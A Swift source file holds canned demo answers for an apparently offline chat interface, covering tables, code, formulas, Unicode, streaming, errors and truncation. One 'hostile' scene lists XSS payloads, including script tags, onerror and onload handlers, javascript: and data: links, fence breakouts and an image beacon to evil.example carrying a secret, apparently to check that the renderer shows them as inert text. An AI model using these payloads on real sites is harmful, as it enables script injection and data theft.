extension OfflineScript {
    /// The demonstrations by name.
    static let demos: [String: Scene] = [
        "table": Scene(text: table),
        "code": Scene(text: code),
        "long": Scene(text: long),
        "unicode": Scene(text: unicode),
        "slow": Scene(text: slow, slow: true),
        "error": Scene(
            text: "These words arrive. Then the script pretends that the provider asks for patience",
            ending: .failure(
                ChatModelError(
                    .throttled, message: "The model is busy (this failure is part of the demo). Try again in a moment.",
                    retryable: true))),
        "cut": Scene(
            text: "This answer reaches its length limit in the middle of a", ending: .lengthLimit,
            rest: " sentence, and *Continue* brings the rest of it."),
        "math": Scene(text: math),
        "xss": Scene(text: hostile),
    ]

    private static let table = """
        ## A table

        The columns are aligned left, centred and right. The figures are made up.

        | Step | Where | Time |
        |:-----|:-----:|-----:|
        | TLS handshake | gateway | 1.2 ms |
        | Session looked up | gateway | 0.01 ms |
        | Identity verified | chat | 0.2 ms |
        | First word | **offline model** | 30 ms |

        A cell can hold `code`, *emphasis* or a [link](https://www.rfc-editor.org/rfc/rfc9110).
        """

    private static let code = """
        ## Code

        A function in Swift:

        ```swift
        /// The greatest common divisor, by Euclid's algorithm.
        func greatestCommonDivisor(_ a: Int, _ b: Int) -> Int {
            b == 0 ? abs(a) : greatestCommonDivisor(b, a % b)
        }

        print(greatestCommonDivisor(1071, 462))  // 21
        ```

        The same at a shell, with a line long enough to scroll:

        ```sh
        python3 -c 'import math; print("The greatest common divisor of", 1071, "and", 462, "is", math.gcd(1071, 462))'
        ```

        Inline code such as `b == 0` stays in its sentence.
        """

    private static let math = #"""
        ## Formulas

        The roots of $ax^2 + bx + c = 0$ are $x_{1,2} = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}$. Money such as $5 or $10 is none.

        $$
        \int_{-\infty}^{\infty} e^{-x^2} \, dx = \sqrt{\pi}
        $$

        Formulas are shown as they are written, \(a_1 * a_2 * a_3\) included.
        """#

    private static let slow = """
        One word after another, with time to press *Stop* or to close the page: what has arrived by then is kept, and \
        the message says that it was stopped.
        """

    private static let unicode = """
        ## Many scripts

        - Greek: Ξεσκεπάζω την ψυχοφθόρα βδελυγμία
        - Hindi: ऋषियों को सताने वाले दुष्ट राक्षसों के राजा
        - Japanese: いろはにほへと ちりぬるを
        - Korean: 키스의 고유조건은 입술끼리 만나야 하고
        - Arabic: نص حكيم له سر قاطع وذو شأن عظيم
        - Hebrew: דג סקרן שט בים מאוכזב
        - Emoji: 👩🏽‍🚀 👨‍👩‍👧‍👦 🏳️‍🌈 🇪🇺 ✅
        - Marks: e\u{301} is one character, as is ạ̈

        Mathematics as text: ∀ε > 0 ∃δ > 0: |x − a| < δ ⇒ |f(x) − f(a)| < ε.
        """

    private static let hostile = """
        ## Hostile text, shown as text

        <script>document.title = 'owned'</script>
        <img src=x onerror="document.title = 'owned'">

        - [a script link](javascript:document.title='owned')
        - [a hidden script link](java\tscript:alert(1))
        - [data](data:text/html,<script>alert(1)</script>)
        - ![an image that would report you](https://evil.example/?q=secret)
        - <https://example.com/"onmouseover="alert(1)>

        ```html"><script>alert(1)</script>
        </code></pre><script>alert(1)</script>
        ```

        | <b>cell</b> | `<i>code</i>` |
        |--|--|
        | <svg onload=alert(1)> | &lt;script&gt; |
        """

    private static let long: String = {
        let sections = [
            (
                "What happens to a request",
                [
                    "The browser opens a TLS connection to the gateway.",
                    "The gateway finds the session by its cookie.",
                    "It signs who you are and passes the request to this program.",
                    "This program verifies the signature before it reads anything else.",
                ]
            ),
            (
                "What is kept",
                [
                    "Your conversations, in a database that only this program opens.",
                    "Each answer with the way it ended: complete, stopped, interrupted or failed.",
                    "Whether the answer was scripted. All of mine are.",
                ]
            ),
            (
                "What is not",
                [
                    "Your password: it never reaches this program.",
                    "Your cookies: neither.",
                    "The text of messages in any log.",
                ]
            ),
        ]
        var text = "# A long answer\n\nIt has headings, lists and enough words to scroll.\n"
        for round in 1...4 {
            for (title, points) in sections {
                text += "\n## \(round). \(title)\n\n"
                text += points.enumerated().map { "\($0.offset + 1). \($0.element)" }.joined(separator: "\n")
                text += """


                    > A quotation stands apart. It may hold **bold**, *italic* and `code`.

                    - an item
                      - an item below it
                      - and another
                    - the last item

                    ---

                    """
            }
        }
        return text + "\nThat was the end of it."
    }()
}
